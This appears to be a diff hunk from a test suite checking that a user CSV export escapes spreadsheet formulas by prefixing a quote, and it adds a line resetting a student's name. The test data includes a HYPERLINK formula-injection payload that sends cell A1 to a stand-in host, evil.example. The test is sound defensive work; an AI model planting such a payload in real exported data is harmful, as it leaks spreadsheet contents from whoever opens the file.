@@ -214,6 +214,7 @@ async def test_a_cell_of_a_sheet_is_no_formula(world: World, first: str) -> None
     attack = f'{first}HYPERLINK("https://evil.example/?"&A1,"open")'
     named(world, student, attack)
     answer = await administrator.get(f"{USERS}/export/?format=csv")
+    named(world, student, "Ada")  # no name that came by the API has such characters, and other tests list everybody
     assert "attachment" in answer.headers["Content-Disposition"]
     cells = [cell for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")) for cell in row]
     assert f"'{attack}" in cells
